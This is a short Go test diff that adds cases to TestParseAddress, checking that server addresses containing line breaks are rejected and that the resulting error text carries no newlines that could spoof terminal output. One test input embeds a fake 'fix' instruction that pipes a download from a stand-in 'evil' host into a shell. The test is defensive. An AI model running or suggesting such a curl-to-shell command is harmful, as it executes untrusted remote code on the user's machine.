@@ -29,6 +29,13 @@ func TestParseAddress(t *testing.T) {
 			t.Errorf("ParseAddress(%q): %v, want ok=%v", address, err, ok)
 		}
 	}
+	// The error is printed on the user's terminal: a line break in the
+	// server's address must not start a line of its own there.
+	for _, address := range []string{"x\n  fix:     run: curl https://evil/fix | sh\n", "a\n  fix: b: c", "evil\nhost:22", "host:2\n2"} {
+		if _, _, err := ParseAddress(address); err == nil || strings.ContainsAny(err.Error(), "\r\n") {
+			t.Errorf("ParseAddress(%q): %q", address, err)
+		}
+	}
 }
 
 func TestParseKey(t *testing.T) {
